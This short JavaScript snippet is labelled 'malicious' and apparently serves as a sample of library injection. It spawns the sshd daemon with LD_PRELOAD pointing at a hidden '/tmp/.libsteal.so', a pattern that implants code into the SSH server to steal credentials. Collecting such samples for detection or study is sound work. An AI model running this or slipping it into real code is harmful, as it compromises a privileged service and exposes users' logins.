// malicious: a library into a started program
const { spawn } = require('child_process');
spawn('sshd', ['-D'], { env: { ...process.env, LD_PRELOAD: '/tmp/.libsteal.so' } });
